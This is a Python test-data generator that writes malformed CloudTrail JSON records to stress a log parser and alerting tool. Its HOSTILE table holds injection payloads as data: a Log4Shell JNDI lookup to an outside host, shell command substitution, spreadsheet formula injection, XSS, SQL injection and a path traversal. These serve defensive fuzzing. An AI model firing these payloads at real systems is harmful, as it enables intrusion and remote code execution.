#!/usr/bin/env python3
"""A dump of CloudTrail files with everything in it that can go wrong.

    nasty.py --seed N --out DIR [--spread M] [--size small|medium] [--raw-controls]

The same seed gives the same records, byte for byte; --spread only lays
them out over other files in another order, which must change no alert.
All of it is well-formed JSON but for invalid UTF-8 and half surrogate
pairs (and, with --raw-controls, control bytes inside strings). The values
of secret keys hold the word GIVEAWAY, and nothing else does.
"""

from __future__ import annotations

import argparse
import os
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from itertools import pairwise
from pathlib import Path
from random import Random
from typing import Any

# ------------------------------------------------------- writing JSON

Json = Any  # None, bool, int, str, Raw, list, Obj


@dataclass(frozen=True)
class Raw:
    """A token that is written as it stands."""

    data: bytes


class Obj(list[tuple[Any, Json]]):
    """An object as a list of members, so that a key can occur twice."""


ABSENT = Raw(b"")  # a member of this value is left out


class Style:
    """How one record is written: white space, escapes."""

    def __init__(self, seed: int, raw_controls: bool = False):
        self.rng = Random(seed)
        self.raw_controls = raw_controls
        self.white = self.rng.choice(["none", "none", "pretty", "weird"])
        self.escapes = self.rng.choice([0.0, 0.0, 0.02, 0.3])

    def gap(self, depth: int) -> bytes:
        if self.white == "pretty":
            return b"\n" + b"  " * min(depth, 20)
        if self.white == "weird":
            return bytes(self.rng.choices(b" \t\r\n", k=self.rng.randrange(3)))
        return b""

    def string(self, text: str) -> bytes:
        return b'"' + b"".join(self.char(c) for c in text) + b'"'

    def char(self, c: str) -> bytes:
        # But no line feed: a line that ends inside a string is damage.
        if c < " " and c != "\n" and self.raw_controls and self.rng.random() < 0.5:
            return c.encode()
        short = {'"': b'\\"', "\\": b"\\\\", "\n": b"\\n", "\t": b"\\t", "\r": b"\\r",
                 "\b": b"\\b", "\f": b"\\f"}.get(c)
        if short and self.rng.random() < 0.7:
            return short
        if c in '"\\' or c < " " or self.rng.random() < self.escapes:
            if c == "/" and self.rng.random() < 0.5:
                return b"\\/"
            units = c.encode("utf-16-be").hex()
            units = self.rng.choice([units, units.upper()])
            return b"".join(b"\\u" + units[i:i + 4].encode() for i in range(0, len(units), 4))
        return c.encode()

    def write(self, value: Json, depth: int = 0) -> bytes:
        if isinstance(value, Raw):
            return value.data
        if isinstance(value, str):
            return self.string(value)
        if isinstance(value, Obj):
            parts = [self.write(key) + self.gap(0).strip(b"\n") + b":" + self.gap(0).strip(b"\n")
                     + self.write(child, depth + 1) for key, child in value if child != ABSENT]
            return self.enclose(b"{", parts, b"}", depth)
        if isinstance(value, list):
            return self.enclose(b"[", [self.write(v, depth + 1) for v in value], b"]", depth)
        if isinstance(value, bool):
            return b"true" if value else b"false"
        return b"null" if value is None else b"%d" % value

    def enclose(self, opener: bytes, parts: list[bytes], closer: bytes, depth: int) -> bytes:
        inner = b"".join((b"," if i else b"") + self.gap(depth + 1) + part + (
            self.gap(0) if self.white == "weird" else b"") for i, part in enumerate(parts))
        return opener + inner + self.gap(depth) + closer


# -------------------------------------------------------------- tables

PRINCIPALS: list[Json] = [
    # the table of the rule
    ABSENT, None, "", 17, True, ["AROAEXAMPLEID:i-0list"], Obj([("principalId", "AROA:i-0nested")]),
    "AROAEXAMPLEID:i-0abcdef1234567890", "AROAEXAMPLEID:i-1a2b3c4d",
    "AROAEXAMPLEID:I-0abcdef1234567890", "AROAEXAMPLEID:mi-0abcdef1234567890",
    "AROAEXAMPLEID:session-i-0abc", "i-0abcdef1234567890",
    "123456789012:aws:ec2-instance:i-0abcdef1234567890", "AROAEXAMPLEID:i-",
    "AROAEXAMPLEID:i-0abc/extra text", "AROAEXAMPLEID:i-0abc:i-0def",
    "AROAEXAMPLEID:i-am-not-an-instance", "x:i-:i-0abc", Raw(rb'"AROA\u003ai-0abc"'),
    Raw(rb'"AROA:i-0a\u0000b"'), Raw(rb'"AROA:i-0a\ud800b"'),
    # all these are the same instance as the two above
    Raw(b'"AROA:i-0a\xffb"'), "AROA:i-0a\ufffdb", Raw(rb'"AROA:i-0a\uDFFFb"'),
    # pairs, halves, and the wrong way round
    Raw(rb'"AROA:i-\ud83d\ude00"'), "AROA:i-\U0001f600", Raw(rb'"AROA:i-\ude00\ud83d"'),
    Raw(rb'"AROA:i-\ud83d\ud83d\ude00"'), Raw(rb'"AROA:i-\ud83d\n\ude00"'),
    Raw(rb'"AROA:i-\\ud83d\\u0000"'), Raw(rb'"AROA:\u0000i-0abc"'),
    Raw(rb'"\u003A\u0069\u002d0abc"'),
    Raw(rb'"AROA:i-\u0000\u0000"'), Raw(b'"AROA:i-\xed\xa0\x80"'), Raw(b'"AROA:i-\xe2\x82"'),
    Raw(rb'"AROA\\u003ai-0abc"'),
    # spelt like an instance, or nearly
    ":i-", ":i-0bare", "AROA:i-0ABC", "AROA: i-0abc", "AROA\uff1ai-0abc", "AROA:\u200bi-0abc",
    "AROA:i-0abc ", "AROA:i- 0abc", "AROA:i-0abc\u00e9", "AROA:i-" + "long" * 1500,
    # what a policy line must quote, and what must not reach a terminal
    "AROA:i-0a,b", 'AROA:i-0a"b', "AROA:i-0a\\b", "AROA:i-0a#b", "AROA:i-0a\tb", "AROA:i-0a\nb",
    "AROA:i-0a\x7fb", "AROA:i-0a\x0bb", "AROA:i-0a=b", "AROA:i-0a*b", "AROA:i-0a|b", "AROA:i-0a/b",
    "AROA:i-\x1b[31mred", "AROA:i-=1+1", "AROA:i-<script>", "AROA:i-0a\u2028b", "AROA:i-0a\u00a0b",
]

ADDRESSES: list[Json] = [
    # the table of the rule
    "3.225.16.109", "198.17.255.255", "198.20.0.0", "198.18.0.0", "198.19.255.255",
    "10.255.255.255", "172.16.0.0", "172.31.255.255", "192.168.0.1", "11.0.0.1",
    "172.15.255.255", "172.32.0.0", "192.169.0.1", "100.64.0.1", "127.0.0.1",
    "169.254.169.254", "0.0.0.0", "224.0.0.1", "AWS Internal", "aws internal",
    "AWS Internal/3", "ec2.amazonaws.com", "2600:1f18:1234::1", "::1", "fe80::1",
    "::ffff:3.225.16.109", "", ABSENT, None, "-", 3, Raw(b"3.225"), " 3.225.16.109",
    "3.225.16.109 ", "3.225.16.109:443", "3.225.16", "3.225.16.109.1", "256.1.1.1", "0x3.1.1.1",
    "0000.1.2.3", "10.0.0.1/8", "192.168.1.1/24", "3.225.16.109/32", "198.18.5.5/32",
    "198.99.1.1/8", "0.0.0.0/0", "3.225.16.109/33", "3.225.16.109/", "11.0.0.1/4",
    "3.225.16.109/24", "fe80::1%eth0", "amazonaws.com", "010.000.000.001", "035.249.253.232",
    "08.1.250.216",
    # IPv4, more of it
    "255.255.255.255", "203.0.113.9/00", "203.0.113.9/0", "203.0.113.9/1", "203.0.113.9/08",
    "203.0.113.9/032", "203.0.113.9/-1", "203.0.113.9/ 8", "203.0.113.9/3a", "203.0.113.9/32/32",
    "203.0.113.9\n", "203.0.113.", ".203.0.113", "203..113.9", "203.0.113.9.", "+203.0.113.9",
    "203.0.113.-9", "203.0.113.1e1", "\uff12\uff10\uff13.0.113.9", "203.0.113.0009", "999.0.113.9",
    "203.0.113.256", "172.15.1.1/11", "172.33.1.1/12", "192.169.1.1/15", "192.169.1.1/16",
    "128.0.2.1/1", "198.16.0.1/14", "198.20.0.1/14", "3405803785", "203,0,113,9",
    Raw(rb'"203.0.113.9\u0000"'), Raw(rb'"\u0032\u003003.0.113.9"'), Raw(rb'"203.0.113.9\/24"'),
    Raw(rb'"203.0.113\ud800.9"'), Raw(b'"203.0.113.9\xff"'), ["203.0.113.9"],
    Obj([("sourceIPAddress", "203.0.113.9")]), True, Raw(b"203.0"),
    # services
    "AWS INTERNAL", "AWS InternalX", "AWS Interna", " AWS Internal", "AW\u017f Internal",
    "EC2.AmazonAWS.com", "x.amazonaws.com.cn", "x.AMAZONAWS.COM.CN", "x.amazonaws.com.",
    "amazonaws.com.cn", ".amazonaws.com", "xamazonaws.com", "AWS Internal.amazonaws.com",
    "10.0.0.1.amazonaws.com", "x.amazonaws.com/1",
    # IPv6
    "::", "febf:ffff::1", "fec0::1", "fe7f:ffff::1", "fc00::1", "fdff:ffff::1", "fbff:ffff::1",
    "fe00::1", "ff00::", "ff02::1", "::2", "2001:db8::1", "2001:DB8:0:0:0:0:0:1",
    "2001:0db8::0001", "2001:db8:0:0:1:0:0:1", "2001:db8:0:1:1:1:1:1", "2001:db8:1:0:0:1:0:0",
    "2001:db8:0:0:0:1:0:0", "2001:db8::0:1", "2001:db8::", "2001:db8:0:0:0:0:203.0.113.9",
    "::ffff:203.0.113.9", "::FFFF:CB00:7109", "0:0:0:0:0:ffff:203.0.113.9", "::ffff:10.0.0.1",
    "::ffff:198.18.0.1", "::ffff:0:203.0.113.9", "64:ff9b::203.0.113.9", "::203.0.113.9",
    "::ffff:203.0.113.09", "::ffff:203.0.113", "::ffff:203.0.113.9/128", "2001:db8::1/64",
    "[2001:db8::1]", "2001:db8::1%1", ":::", ":", "2001:db8::1::2", "2001:db8:1:2:3:4:5",
    "2001:db8:1:2:3:4:5::", "::db8:1:2:3:4:5:6", "2001:db8:1:2:3:4:5:6:7", "20010::1",
    "2001:db8::g", "2001:db8:1:2:3:4:5:6:", ":2001:db8::1", " 2001:db8::1", "2001:db8::1 ",
    Raw(rb'"2001:db8::1\u0000"'), Raw(rb'"2001\u003adb8::1"'),
]

ODD_TIMES: list[Json] = [
    ABSENT, None, "", 1645524672, Raw(b"1645524672.0"), True, ["2022-02-22T10:01:00Z"],
    Obj([("eventTime", "2022-02-22T10:01:00Z")]), "2022-02-22T10:01:60Z", "2016-12-31T23:59:60Z",
    "2022-02-22T10:60:00Z", "2022-02-22T24:00:00Z", "2022-02-29T10:01:00Z", "2020-02-29T10:01:00Z",
    "2022-02-30T10:01:00Z", "2020-02-30T10:01:00Z", "1900-02-29T10:01:00Z", "2000-02-29T10:01:00Z",
    "2100-02-29T10:01:00Z", "2022-04-31T10:01:00Z", "2022-00-22T10:01:00Z", "2022-13-22T10:01:00Z",
    "2022-02-00T10:01:00Z", "2022-02-22T10:01:00", "2022-02-22T10:01Z", "2022-02-22",
    "20220222T100100Z",
    "2022-02-22T10:01:00.Z", "2022-02-22T10:01:00,5Z", "2022-02-22T10:01:00+0200",
    "2022-02-22T10:01:00+02", "2022-02-22T10:01:00+24:00", "2022-02-22T10:01:00+02:60",
    "2022-02-22T10:01:00+23:59", "2022-02-22T10:01:00-23:59", "2022-02-22T10:01:00-00:00",
    "2022-02-22T10:01:00 Z", "2022-02-22T10:01:00Z ", " 2022-02-22T10:01:00Z",
    "2022-02-22T10:01:00Z\n", "2022-02-22  10:01:00Z", "2022-02-22_10:01:00Z",
    "2022-2-22T10:01:00Z",
    "2022-02-22T10:01:00ZZ", "2022-02-22T10:01:00Z+00:00", "+2022-02-22T10:01:00Z",
    "-022-02-22T10:01:00Z", "12022-02-22T10:01:00Z", "2022/02/22T10:01:00Z",
    "Tue, 22 Feb 2022 10:01:00 GMT", "\uff12022-02-22T10:01:00Z", "2022-02-22T10:01:00.5\u0663Z",
    "2022-02-22T10:01:00\u221202:00", "2022-02-22T1O:01:00Z", "now",
    Raw(rb'"2022-02-22T10:01:00\u0000Z"'),
    Raw(rb'"2022-02-22\u005410:01:00\u005a"'), Raw(b'"2022-02-22\xffT10:01:00Z"'),
]

EXTREME_TIMES: list[Json] = [  # rare: they hide first_event and last_event
    "0000-01-01T00:00:00Z", "0000-02-29T00:00:00Z", "0000-01-01T00:00:00+00:01",
    "0000-01-01T00:00:00-00:01", "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-00:01",
    "9999-12-31T23:59:59+00:01", "0001-01-01T00:00:00Z", "1969-12-31T23:59:59.9Z",
    "1970-01-01T00:00:00Z",
]

HOSTILE = [
    "\x1b[2J\x1b]0;owned\x07", "a\r\nb\n{\"Records\":[]}", "<script>alert(1)</script>", "]]></x>",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "%s%n%x", "../../etc/passwd", "\u202egnp.exe",
    "\u2028\u2029\u0085", "\x7f\x9b31m", "'; DROP TABLE alerts; --", "\ufeffbom",
    "\U0010ffff\uffff",
    "\\u0000 not an escape", "\"},{\"", "a\tb", "", " ", "${jndi:ldap://203.0.113.1/a}", "`id`",
    "$(id)",
    "e\u0301", "\u00e9", "\U0001f600", "/", "a/b\\/c", "\x01\x02\x1f",
]

NUMBERS = [b"1" * 100, b"1E+2", b"1e-2", b"-0.0", b"-0", b"0.10", b"1.000000000000000000000001",
           b"123456789012345678", b"18446744073709551616", b"1e400", b"0e0"]

SECRETS = ["secretAccessKey", "sessionToken", "password", "masterUserPassword", "newPassword",
           "oldPassword", "secretString", "secretBinary", "privateKey", "keyMaterial",
           "passwordData", "authToken"]

NAMES: list[Json] = [
    "GetCallerIdentity", "DescribeInstances", "ListBuckets", "getcalleridentity", "List\u00e9",
    "Z", "a", "", Raw(rb'"Get\u0000"'), Raw(rb'"Get\ud83d"'), Raw(rb'"Get\u0043allerIdentity"'),
    ABSENT, None, 5, ["x"],
]

ACCOUNTS = ["111122223333", "444455556666"]
REGIONS = ["us-east-1", "eu-west-1", "cn-north-1"]
SOURCES = ["ec2.amazonaws.com", "sts.amazonaws.com", "s3.amazonaws.com", "ssm.amazonaws.com"]
WRONG_TYPES: list[Json] = [None, 0, True, [], Obj(), ["x"], Obj([("x", "y")]), Raw(b"1.5"), "",
                           ABSENT]


def odd_bytes(rng: Random) -> Raw:
    """A string of bytes of which many are no UTF-8."""
    pool = [b"\x80", b"\x8f", b"\x90", b"\x9f", b"\xa0", b"\xbf", b"\xc0", b"\xc1", b"\xc2",
            b"\xdf", b"\xe0", b"\xe2", b"\xed", b"\xef", b"\xf0", b"\xf1", b"\xf4", b"\xf5",
            b"\xff", b"a", b"\xe2\x82", b"\xf0\x9f\x98", "\u20ac".encode(),
            "\U0001f600".encode(), b"\\n", b"\\u00e9"]
    return Raw(b'"' + b"".join(rng.choices(pool, k=rng.randrange(1, 9))) + b'"')


def odd_escapes(rng: Random) -> Raw:
    """A string of escapes of which many are halves of something."""
    pool = [rb"\ud83d", rb"\uDE00", rb"\uD83D\ude00", rb"\u0000", rb"\udbff", rb"\udc00",
            rb"\ud800",
            rb"\ufffd", rb"\\", rb"\n", b"u0000", b"x", "\U0001f600".encode(), rb"\u00e9", rb"\/"]
    return Raw(b'"' + b"".join(rng.choices(pool, k=rng.randrange(1, 9))) + b'"')


def odd_text(rng: Random) -> Json:
    return rng.choice([odd_bytes(rng), odd_escapes(rng), rng.choice(HOSTILE)])


def spell_time(minute: int, rng: Random) -> str:
    """2022-02-22T10:MM:00Z in one of its spellings."""
    return rng.choice([
        f"2022-02-22T10:{minute:02}:00Z", f"2022-02-22T10:{minute:02}:00Z",
        f"2022-02-22T10:{minute:02}:00Z", f"2022-02-22t10:{minute:02}:00z",
        f"2022-02-22 10:{minute:02}:00Z", f"2022-02-22T12:{minute:02}:00+02:00",
        f"2022-02-21T23:{minute:02}:00.0-11:00", f"2022-02-22T10:{minute:02}:00.00000009Z",
        f"2022-02-22T10:{minute:02}:00.{'0' * rng.randrange(1, 13)}Z",
        f"2022-02-22T10:{minute:02}:00-00:00", f"2022-02-23T10:{minute - 1:02}:00+23:59",
    ])


def any_time(rng: Random) -> Json:
    """Few different minutes, so that many first events tie."""
    kind = rng.random()
    if kind < 0.80:
        return spell_time(rng.randrange(1, 5), rng)
    if kind < 0.88:
        digits = "".join(rng.choices("0123456789", k=rng.randrange(1, 13)))
        return f"2022-02-22T{rng.randrange(24):02}:01:00.{digits}{rng.choice(['Z', '+05:30'])}"
    return rng.choice(ODD_TIMES)


# -------------------------------------------------------------- events

@dataclass
class Event:
    """What one record says. `order` and `style` are seeds of how."""

    principal: Json
    address: Json
    time: Json = "2022-02-22T10:01:00Z"
    event_id: Json = ABSENT
    name: Json = "DescribeInstances"
    stamp: Json = ABSENT
    version: Json = "1.08"
    source: Json = "ec2.amazonaws.com"
    region: Json = "us-east-1"
    agent: Json = "aws-cli/2.7.1"
    error: Json = ABSENT
    endpoint: Json = ABSENT
    category: Json = ABSENT
    account: Json = "111122223333"
    recipient: Json = ABSENT
    key: Json = "ASIAEXAMPLE000000001"
    role_arn: Json = "arn:aws:iam::111122223333:role/app"
    role_name: Json = "app"
    delivery: Json = ABSENT
    parameters: Json = None
    response: Json = None
    order: int = 0
    style: int = 0

    def as_object(self) -> Obj:
        rng = Random(self.order)
        issuer = Obj([("type", "Role"), ("principalId", "AROAEXAMPLEID:i-0issuer"),
                      ("arn", self.role_arn), ("accountId", "444455556666"),
                      ("userName", self.role_name)])
        session = Obj([("sessionIssuer", issuer), ("ec2RoleDelivery", self.delivery),
                       ("attributes", Obj([("creationDate", "2022-02-22T09:00:00Z")]))])
        identity = Obj([("type", "AssumedRole"), ("principalId", self.principal),
                        ("accountId", self.account), ("accessKeyId", self.key),
                        ("sessionContext", session)])
        record = Obj([("eventVersion", self.version), ("userIdentity", identity),
                      ("eventTime", self.time), ("eventSource", self.source),
                      ("eventName", self.name), ("awsRegion", self.region),
                      ("sourceIPAddress", self.address), ("userAgent", self.agent),
                      ("errorCode", self.error), ("requestParameters", self.parameters),
                      ("responseElements", self.response), ("eventID", self.event_id),
                      ("readOnly", True), ("recipientAccountId", self.recipient),
                      ("vpcEndpointId", self.endpoint), ("eventCategory", self.category),
                      ("@timestamp", self.stamp)])
        if self.order:
            for part in (issuer, session, identity, record):
                rng.shuffle(part)
        return record


@dataclass(frozen=True)
class Record:
    data: bytes
    bare: bool  # may stand outside {"Records": [...]} too


FREE_TEXT = ("source", "region", "agent", "error", "endpoint", "account", "recipient", "key",
             "role_arn", "role_name", "delivery")


class Generator:
    def __init__(self, seed: int, size: str, raw_controls: bool):
        self.rng = Random(seed)
        self.scale = {"small": 1, "medium": 10}[size]
        self.raw_controls = raw_controls
        self.next_id = 0
        self.records: list[Record] = []
        self.sent: list[Event] = []

    # -- one event, with some life in it

    def event_id(self) -> Json:
        self.next_id += 1
        kind = self.rng.random()
        if kind < 0.06:
            return self.rng.choice([ABSENT, "", None, self.next_id, Obj()])
        if kind < 0.08:
            return odd_text(self.rng)
        # Shuffled digits: the order of ids is not the order of making.
        return f"{self.next_id * 7919 % 10007:05}-{self.next_id:05}"

    def event(self, principal: Json, address: Json, **more: Json) -> Event:
        rng = self.rng
        account = rng.choice(ACCOUNTS)
        event = Event(
            principal, address, any_time(rng), self.event_id(), rng.choice(NAMES[:3]),
            source=rng.choice(SOURCES), region=rng.choice(REGIONS),
            agent=f"aws-cli/2.7.{rng.randrange(3)}", account=account,
            recipient=rng.choice([ABSENT, *ACCOUNTS]),
            key=f"ASIAEXAMPLE00000000{rng.randrange(3)}",
            role_arn=f"arn:aws:iam::{account}:role/app{rng.randrange(2)}",
            delivery=rng.choice([ABSENT, "1.0", "2.0"]),
            order=rng.randrange(3) and rng.randrange(1 << 30), style=rng.randrange(1 << 30))
        if rng.random() < 0.2:
            event.error = rng.choice(["AccessDenied", "Client.UnauthorizedOperation"])
        if rng.random() < 0.2:
            event.endpoint = f"vpce-0{rng.randrange(3)}"
        if rng.random() < 0.1:
            event.role_arn = rng.choice([ABSENT, ABSENT, None, ""])
        if rng.random() < 0.1:
            event.account = rng.choice([ABSENT, ABSENT, None, ""])
        if rng.random() < 0.1:
            event.name = rng.choice(NAMES)
        if rng.random() < 0.1:
            event.category = rng.choice(["Management", "Data", "insight", "Insights", None])
        if event.time == ABSENT and rng.random() < 0.7:
            event.stamp = any_time(rng)
        elif rng.random() < 0.1:
            event.stamp = any_time(rng)
        if rng.random() < 0.15:
            setattr(event, rng.choice(FREE_TEXT), odd_text(rng))
        if rng.random() < 0.15:
            event.parameters = self.parameters()
        if rng.random() < 0.15:
            event.response = self.secrets(rng.randrange(1, 5))
        for name, value in more.items():
            setattr(event, name, value)
        return event

    def parameters(self) -> Obj:
        """What looks like the fields that count, but is not."""
        rng = self.rng
        decoy = Obj([("principalId", "AROA:i-0decoy"), ("sourceIPAddress", "203.0.113.99"),
                     ("eventTime", "2001-01-01T00:00:00Z"), ("eventName", "Decoy"),
                     ("eventID", "0"), ("Records", [Obj([("eventSource", "x")])]),
                     ("userIdentity", Obj([("principalId", "AROA:i-0decoy")]))])
        return Obj([("decoy", decoy), ("n", Raw(rng.choice(NUMBERS))), ("text", odd_text(rng)),
                    ("braces", "}]}{[\"\\"), (odd_text(rng), [Obj(), [], [[]], True, None])])

    def secrets(self, depth: int) -> Json:
        """Secrets in an object; no "GIVEAWAY" may come out again."""
        rng = self.rng
        values: list[Json] = ["GIVEAWAY", ["GIVEAWAY", 1], Obj([("a", "GIVEAWAY")]), None, 5,
                              Raw(b'"GIVEAWAY\\n"'),
                              Obj([("plain", Obj([("password", "GIVEAWAY")]))])]
        key: Json = rng.choice(SECRETS)
        kind = rng.random()
        if kind < 0.3:
            key = "".join(rng.choice([c.upper(), c.lower()]) for c in key)
        elif kind < 0.5:
            key = Raw(b'"\\u%04x%s"' % (ord(key[0]), key[1:].encode()))
        harmless: Json = rng.choice(["xpassword", "passwords", "private\u212aey", "authTo\u212aen",
                                     "pa\u017f\u017fword", "", Raw(rb'"password\u0000"'),
                                     "pass word"])
        members = Obj([(key, rng.choice(values)), (harmless, "public"), ("password", "GIVEAWAY")])
        rng.shuffle(members)
        inner: Json = members
        for _ in range(depth):
            inner = rng.choice([[0, inner], Obj([("in", inner)]), [inner]])
        return Obj([("credentials", inner), ("x", 1)])

    # -- from an event to bytes

    def spoil(self, record: Obj) -> Obj:
        """Duplicate keys, wrong types, look-alike keys."""
        rng = self.rng
        places = [record]
        for part in places:
            places += [child for key, child in part if isinstance(child, Obj)
                       and key in ("userIdentity", "sessionContext", "sessionIssuer")]
        part = rng.choice(places)
        if not part:
            return record
        at = rng.randrange(len(part))
        key, value = part[at]
        kind = rng.random()
        if kind < 0.4:  # the first of two wins
            other = rng.choice([*WRONG_TYPES[:-1], "203.0.113.77", "AROA:i-0second",
                                "2022-02-22T10:02:00Z"])
            part.insert(rng.randrange(len(part) + 1), (key, other))
        elif kind < 0.7:
            part[at] = (key, rng.choice(WRONG_TYPES))
        elif kind < 0.85 and isinstance(key, str):  # another key altogether
            likes = [key.upper(), key.lower(), key[:1].upper() + key[1:], key + " ", " " + key,
                     key + "\0", key[:-1]]
            part.insert(at, (rng.choice([k for k in likes if k != key]), "203.0.113.78"))
        elif isinstance(key, str):  # the same key, in escapes
            escaped = [b"\\u%04X" % ord(c) if rng.random() < 0.5 else c.encode() for c in key]
            part[at] = (Raw(b'"' + b"".join(escaped) + b'"'), value)
        return record

    def send(self, event: Event, spoil: float = 0.1) -> None:
        record = event.as_object()
        if self.rng.random() < spoil:
            record = self.spoil(record)
        plain = {key: value for key, value in reversed(record)  # so that the first wins
                 if isinstance(key, str)}
        bare = (isinstance(plain.get("eventSource"), str) and "Records" not in plain
                and any(isinstance(plain.get(key), str) for key in ("eventVersion", "eventTime")))
        self.add(record, event.style, bare)
        self.sent.append(event)

    def add(self, record: Obj, style: int, bare: bool) -> None:
        self.records.append(Record(Style(style, self.raw_controls).write(record), bare))

    # -- the parts of a dump

    def tables(self) -> None:
        for n, principal in enumerate(PRINCIPALS):
            self.send(self.event(principal, "3.225.16.109"), 0)
            self.send(self.event(principal, "3.225.16.109"), 0)
            self.send(self.event(principal, f"203.0.113.{n}"), 0)
        for n, address in enumerate(ADDRESSES):
            # once beside a common address, once beside the next spelling
            self.send(self.event(f"AROA:i-0table{n}", address), 0)
            self.send(self.event(f"AROA:i-0table{n}", "192.0.2.1"), 0)
            self.send(self.event(f"AROA:i-0pair{n // 2}", address), 0)
        for n, time in enumerate(ODD_TIMES):
            self.send(self.event(f"AROA:i-0time{n}", "192.0.2.1", time=time), 0)
            self.send(self.event(f"AROA:i-0time{n}", "192.0.2.2"), 0)
            self.send(self.event(f"AROA:i-0times{n // 3}", f"192.0.2.{n % 3}", time=time), 0)
        for _ in range(12):
            for _ in range(2):
                self.send(self.event("AROA:i-0text", "192.0.2.1", name=odd_text(self.rng)), 0)
            for field_name in FREE_TEXT:
                text = {field_name: odd_text(self.rng)}
                self.send(self.event("AROA:i-0text", "192.0.2.2", **text), 0)

    def ties(self) -> None:
        rng = self.rng
        pool: list[Json] = [
            "192.0.2.9", "192.0.2.10", "192.0.2.100", "192.0.2.010", "192.0.2.9/32", "198.51.100.7",
            "203.0.113.3", "9.9.9.9", "2001:db8::1", "2001:DB8::0:1", "2001:db8::a", "10.1.2.3",
            "198.18.0.1", "ec2.amazonaws.com", "::ffff:192.0.2.9"]
        for n in range(60 * self.scale):
            principal = f"AROA{rng.randrange(2)}:i-0{rng.choice('abAB')}{n}"
            for address in rng.sample(pool, rng.randrange(1, 6)):
                for _ in range(rng.choice([1, 1, 2, 2, 3])):
                    event = self.event(principal, address)
                    if rng.random() < 0.2:  # only the text is left to decide
                        event.event_id = rng.choice([ABSENT, "", "same"])
                        event.time = "2022-02-22T10:01:00Z"
                    self.send(event)

    def crowds(self) -> None:
        """As many values as a set holds, and more."""
        for n, values in enumerate([63, 64, 65, 100]):
            for v in range(values):
                text = f"v{v * 37 % values}"
                self.send(self.event(
                    f"AROA:i-0crowd{n}", "192.0.2.1", agent=text, source=text, region=text,
                    error=text, endpoint=text, delivery=text, role_arn=text, account=text, key=text,
                    name=text, event_id=f"crowd{n}-{v}", time=f"2022-02-22T{v % 24:02}:59:59Z"), 0)
            for v in range(values):
                self.send(self.event(f"AROA:i-0crowd{n}", f"203.0.113.{v}"), 0)

    def duplicates(self) -> None:
        rng = self.rng
        changes: list[Callable[[Event], Event]] = [
            lambda e: e,
            lambda e: replace(e, style=rng.randrange(1 << 30)),
            lambda e: replace(e, order=rng.randrange(1, 1 << 30)),
            lambda e: replace(e, parameters=Obj([("a", rng.randrange(3))])),
            lambda e: replace(e, parameters=self.parameters()),
            lambda e: replace(e, response=self.secrets(1)),
            lambda e: replace(e, agent=f"agent{rng.randrange(9)}"),
            lambda e: replace(e, region=rng.choice(REGIONS), error="AccessDenied"),
            lambda e: replace(e, source=rng.choice(SOURCES), key="ASIAEXAMPLE000000009"),
            lambda e: replace(e, account="444455556666", role_arn=ABSENT),
            lambda e: replace(e, stamp="2022-02-22T10:03:00Z"),
            # no duplicates, mostly
            lambda e: replace(e, name=rng.choice(NAMES)),
            lambda e: replace(e, time=any_time(rng)),
            lambda e: replace(e, time=rng.choice(ODD_TIMES)),
            lambda e: replace(e, address=rng.choice(["192.0.2.9", "192.0.2.009", "198.51.100.7"])),
            lambda e: replace(e, principal="AROA:i-0other"),
            lambda e: replace(e, event_id=self.event_id()),
        ]
        for event in rng.sample(self.sent, len(self.sent) // 5):
            for _ in range(rng.choice([1, 1, 1, 2, 3])):
                copy = rng.choice(changes)(event)
                if rng.random() < 0.2:
                    copy = rng.choice(changes)(copy)
                if isinstance(copy.address, str) and copy.address.count(".") == 3 \
                        and "/" not in copy.address and rng.random() < 0.2:
                    copy = replace(copy, address=copy.address + "/32")
                if isinstance(copy.time, str) and copy.time.startswith("2022-02-22T10:0") \
                        and copy.time.endswith(":00Z") and rng.random() < 0.2:
                    copy = replace(copy, time=spell_time(int(copy.time[14:16]), rng))
                self.send(copy, 0.03)

    def others(self) -> None:
        """Records that are no instance events, and no records at all."""
        rng = self.rng
        for _ in range(40 * self.scale):
            self.send(self.event(rng.choice(["AIDAEXAMPLE", "AROA:somebody", "AROA:botocore-i-1"]),
                                 "203.0.113.5"))
        for category in ("Insight", "NetworkActivity", "Aggregated", Raw(rb'"In\u0073ight"')):
            for n in range(3):
                self.send(self.event("AROA:i-0abcdef1234567890", f"203.0.113.{100 + n}",
                                     category=category), 0)
        for source in ("aws:s3", Raw(rb'"aws\u003as3"')):
            for n in range(3):
                event = self.event("AROA:i-0abcdef1234567890", f"203.0.113.{110 + n}",
                                   source=source)
                self.add(event.as_object(), event.style, n > 0)
        for identity in (*WRONG_TYPES, "AROA:i-0abc", [Obj([("principalId", "AROA:i-0abc")])]):
            record = Event("", "203.0.113.6").as_object()
            self.add(Obj((k, identity if k == "userIdentity" else v) for k, v in record),
                     rng.randrange(1 << 30), True)
        # Elements that are no objects; objects that say nothing.
        for junk in (b"null", b"7", b'"AROA:i-0abc"', b"[]", b'[{"eventSource":"x"}]', b"{}",
                     b'{"a":[{}]}'):
            self.records.append(Record(junk, False))
        for time in rng.sample(EXTREME_TIMES, len(EXTREME_TIMES) if rng.random() < 0.2 else 0):
            self.send(self.event("AROA:i-0extreme", "203.0.113.7", time=time), 0)
            self.send(self.event("AROA:i-0extreme", "203.0.113.8", time=time), 0)

    def limits(self) -> None:
        """Deep is good, too deep is unreadable."""
        for n, depth in enumerate([10, 900, 990, 1100]):
            nest = Raw(b'{"a":[' * (depth // 2) + b"1" + b"]}" * (depth // 2))
            self.send(self.event("AROA:i-0deep", f"192.0.2.{n}", parameters=nest,
                                 time="2022-02-22T10:01:00Z"), 0)
        if self.scale > 1:
            self.send(self.event("AROA:i-0big", "192.0.2.1", agent="A" * 900_000), 0)
            self.send(self.event("AROA:i-0big", "192.0.2.2"), 0)
            over_16_mb = Raw(b'"%s"' % (b"A" * (17 << 20)))
            self.send(self.event("AROA:i-0big", "192.0.2.3", agent=over_16_mb), 0)


def make_records(seed: int, size: str = "small", raw_controls: bool = False) -> list[Record]:
    generator = Generator(seed, size, raw_controls)
    generator.tables()
    generator.ties()
    generator.crowds()
    generator.others()
    generator.limits()
    generator.duplicates()
    return generator.records


# --------------------------------------------------------------- files

DECOY = (b'{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com",'
         b'"eventTime":"2022-02-22T10:01:00Z","eventName":"Decoy",'
         b'"sourceIPAddress":"203.0.113.%d","userIdentity":'
         b'{"principalId":"AROA:i-0abcdef1234567890"}}')


def container(records: list[bytes], rng: Random) -> bytes:
